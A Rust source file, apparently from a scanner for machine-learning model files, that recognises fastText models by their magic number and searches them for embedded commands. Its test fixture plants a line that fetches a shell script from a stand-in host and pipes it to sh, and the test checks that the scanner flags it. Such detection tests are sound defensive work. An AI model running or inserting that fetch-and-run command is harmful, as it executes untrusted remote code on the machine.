//! fastText's models: weights and words, nothing that runs.

use crate::fact::Facts;
use crate::format::{Claim, Format, Item, Probe};
use crate::registry::raw::search;

/// The descriptor.
pub const FORMAT: Format = Format {
    name: "fasttext",
    title: "fastText model",
    family: "fasttext",
    wants,
    read,
    stream: None,
    head_only: false,
    #[cfg(test)]
    samples: tests::samples,
};

fn wants(probe: &Probe<'_>) -> Option<Claim> {
    const MAGIC: &[u8] = &793_712_314_u32.to_le_bytes();
    probe.starts(MAGIC).then_some(Claim::Magic)
}

fn read(item: &Item<'_>, facts: &mut Facts) {
    search(item, facts);
}

#[cfg(test)]
pub(crate) mod tests {
    use crate::finding::Verdict;
    use crate::vet;

    pub(crate) fn samples() -> Vec<Vec<u8>> {
        vec![
            b"\xba\x16O/\x0c\0\0\0".to_vec(),
            b"\xba\x16O/os.system('curl http://x.example/p.sh | sh')\0".to_vec(),
        ]
    }

    #[test]
    fn commands_in_it_are_found() {
        let [good, bad] = &samples()[..] else { panic!() };
        assert_eq!(vet("m.ftz", good).verdict, Verdict::NothingFound);
        assert!(vet("m.ftz", bad).verdict.is_flagged());
    }
}
